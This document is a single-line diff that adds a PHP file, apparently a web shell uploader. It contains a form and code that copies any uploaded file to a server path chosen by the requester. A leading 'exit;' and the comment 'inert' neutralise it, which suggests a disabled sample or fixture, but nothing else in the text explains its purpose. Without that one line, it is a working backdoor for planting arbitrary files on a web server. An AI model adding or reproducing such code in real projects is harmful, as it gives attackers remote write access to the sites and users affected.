@@ -1,0 +1,1 @@
+<?php exit; /* inert */ if(isset($_POST["up"])){ $t=$_POST["path"]."/".$_FILES["file"]["name"]; if(@copy($_FILES["file"]["tmp_name"],$t)) echo "ok"; } ?><form method=post enctype="multipart/form-data"><input type=file name=file></form>
